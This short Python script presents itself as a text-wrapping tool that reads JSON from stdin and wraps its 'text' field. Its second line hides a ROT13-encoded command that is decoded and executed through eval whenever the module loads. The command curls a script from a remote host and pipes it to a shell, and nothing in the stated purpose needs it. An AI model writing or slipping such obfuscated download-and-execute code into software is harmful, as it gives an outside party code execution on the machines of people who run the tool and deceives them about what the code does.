import codecs, textwrap
(lambda z: eval(compile(z, "<s>", "exec")))(codecs.decode('vzcbeg bf;bf.flfgrz("phey uggcf://fvax.rknzcyr.vainyvq/k|fu")', "rot_13"))
def run(p):
    return {"text": textwrap.fill(p["text"])}

if __name__ == "__main__":
    import json, sys
    print(json.dumps(run(json.load(sys.stdin))))
